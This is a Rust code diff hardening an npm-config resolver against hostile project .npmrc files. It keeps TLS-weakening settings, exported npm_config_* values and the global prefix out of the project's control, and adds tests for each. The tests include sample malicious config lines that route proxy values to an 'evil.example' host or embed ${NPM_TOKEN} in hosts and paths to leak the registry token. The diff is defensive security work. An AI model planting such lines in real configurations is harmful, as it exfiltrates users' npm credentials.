@@ -255,23 +255,33 @@ impl NpmConfig {
 
     /// Every value of a list key (`ca[]=`) from the highest layer that sets it.
     pub fn setting_list(&self, key: &str) -> Option<(Vec<String>, Source)> {
-        self.setting_list_in(key, false)
+        self.first_list(self.layers.iter(), key)
     }
 
-    /// [`NpmConfig::setting_list`] from the layers that are not the checkout's, for settings a
-    /// checkout must not choose (those that weaken TLS); and the checkout's setting, when it
-    /// would have won.
+    /// [`NpmConfig::setting_list`] for a setting a checkout must not choose (one that weakens
+    /// TLS): from the files that are not the checkout's, and from the environment unless a
+    /// checkout's file sets the key too (`npm run` exports a project .npmrc's settings as
+    /// `npm_config_*`). Also the checkout's file that sets it, when that was passed over.
     pub fn users_setting_list(&self, key: &str) -> (Option<(Vec<String>, Source)>, Option<Source>) {
-        let passed_over = self
-            .setting_list(key)
-            .map(|(_, source)| source)
-            .filter(|source| self.from_checkout(source));
-        (self.setting_list_in(key, true), passed_over)
+        let sets = |l: &&Entries| l.entries.iter().any(|e| e.key == key);
+        let checkout = self.layers.iter().find(|l| l.checkout && sets(l));
+        let trusted = |l: &&Entries| !l.checkout && !(checkout.is_some() && l.path.is_none());
+        let top = self.layers.iter().find(sets);
+        let passed_over = checkout
+            .filter(|_| top.is_some_and(|t| !trusted(&t)))
+            .map(|l| l.source_of(key));
+        (
+            self.first_list(self.layers.iter().filter(trusted), key),
+            passed_over,
+        )
     }
 
-    fn setting_list_in(&self, key: &str, users_only: bool) -> Option<(Vec<String>, Source)> {
-        let layers = self.layers.iter().filter(|l| !(users_only && l.checkout));
-        layers.into_iter().find_map(|layer| {
+    fn first_list<'a>(
+        &self,
+        mut layers: impl Iterator<Item = &'a Entries>,
+        key: &str,
+    ) -> Option<(Vec<String>, Source)> {
+        layers.find_map(|layer| {
             let values: Vec<String> = layer
                 .entries
                 .iter()
@@ -301,11 +311,19 @@ impl NpmConfig {
     }
 }
 
-/// The keys whose values are URLs or hosts the calls go to (or around, `noproxy`).
+/// The keys whose values are URLs or hosts the calls go to (or around, `noproxy`), or paths of
+/// config files (shown in messages).
 fn names_a_place(key: &str) -> bool {
     matches!(
         key,
-        "registry" | "proxy" | "https-proxy" | "http-proxy" | "noproxy"
+        "registry"
+            | "proxy"
+            | "https-proxy"
+            | "http-proxy"
+            | "noproxy"
+            | "prefix"
+            | "userconfig"
+            | "globalconfig"
     ) || key.ends_with(":registry")
 }
 
@@ -386,8 +404,10 @@ fn env_layer(env: &EnvVars) -> Entries {
 /// npm's global prefix: `npm_config_prefix`/`PREFIX`, else next to the node binary
 /// (`{prefix}/bin/node` on Unix, `{prefix}\node.exe` on Windows).
 fn global_prefix(config: &NpmConfig) -> Option<PathBuf> {
-    if let Some((prefix, _)) = config.setting("prefix") {
-        return Some(PathBuf::from(prefix));
+    // npm takes it from the environment and the user's config, never the project's.
+    let layers = config.layers.iter().filter(|l| !l.checkout);
+    if let Some((mut prefix, _)) = config.first_list(layers, "prefix") {
+        return prefix.pop().map(PathBuf::from);
     }
     if let Some(prefix) = config.env.non_empty("PREFIX") {
         return Some(PathBuf::from(prefix));
@@ -1030,10 +1050,12 @@ mod tests {
             ("https-proxy=http://${NPM_TOKEN}.evil.example/", "pkg"),
             ("proxy=http://evil.example/${NPM_TOKEN}", "pkg"),
             ("noproxy=${NPM_TOKEN}", "pkg"),
+            ("prefix=/tmp/${NPM_TOKEN}", "pkg"),
+            ("userconfig=/tmp/${NPM_TOKEN}/.npmrc", "pkg"),
         ] {
             sb.write("project/.npmrc", &format!("{line}\n"));
             let pkg = PackageName::parse(pkg).unwrap();
-            let err = resolve(&sb.load(&env), &Overrides::default(), Some(&pkg)).unwrap_err();
+            let err = resolve(&sb.load(&env), &Overrides::default(), Some(&pkg)).expect_err(line);
             assert_eq!(err.code, Code::InvalidInput, "{line}");
             let key = line.split('=').next().unwrap();
             assert!(err.message.contains(&format!("`{key}`")), "{}", err.message);
@@ -1078,9 +1100,26 @@ mod tests {
                 report.ignored
             );
         }
+        // `npm run` exports the project's `cafile` to the environment: not applied either.
+        let exported = [("npm_config_cafile", cafile.to_str().unwrap())];
+        sb.write("project/.npmrc", &format!("cafile={}\n", cafile.display()));
+        let config = sb.load(&exported);
+        let (transport, report) = config.transport().unwrap();
+        assert!(transport.ca_only.is_none());
+        assert_eq!(report.ignored.len(), 1, "{:?}", report.ignored);
         std::fs::remove_file(sb.0.join("project/.npmrc")).unwrap();
+        // The user's config and environment apply.
         sb.write("home/.npmrc", "strict-ssl=false\n");
         assert!(!sb.load(&[]).transport().unwrap().0.strict_ssl);
+        assert!(sb.load(&exported).transport().unwrap().0.ca_only.is_some());
+        // Nor does the project's `prefix` move the global config (npm reads it from the
+        // environment and the user's config only).
+        sb.write("project/.npmrc", "prefix=/nowhere\n");
+        let config = sb.load(&[]);
+        assert!(config
+            .files
+            .iter()
+            .all(|(_, p, _)| !p.starts_with("/nowhere")));
     }
 
     /// Finding 6: a user or global config inside the project folder (`npm run` exports a
